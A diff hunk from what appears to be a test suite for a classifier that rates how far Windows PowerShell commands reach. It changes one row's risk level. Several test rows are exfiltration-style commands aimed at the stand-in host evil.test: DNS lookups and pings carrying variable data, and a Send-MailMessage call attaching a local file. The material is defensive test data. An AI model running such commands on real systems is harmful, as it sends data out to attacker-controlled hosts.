@@ -139,7 +139,7 @@ describe("PA-7 what a Windows command reaches", () => {
     ["$q = $x + '.evil.test'; Resolve-DnsName $q", "high", "outside", true],
     ["foreach ($h in 'a','b') { Test-NetConnection \"$h.example.com\" -Port 443 }", "low", "known", false],
     ['[Net.Dns]::GetHostEntry("$x.evil.test")', "high", "outside", true],
-    ["Test-NetConnection evil.test -Port 443", "low", "outside", false],
+    ["Test-NetConnection evil.test -Port 443", "medium", "outside", false],
     ["New-Object Net.Sockets.TcpClient evil.test,80", "low", "outside", false],
     ["$p = New-Object Net.NetworkInformation.Ping; $p.Send('evil.test', 1500, $d)", "high", "outside", true],
     ["Send-MailMessage -To a@evil.test -SmtpServer mail.evil.test -Attachments C:\\x", "high", "outside", true],
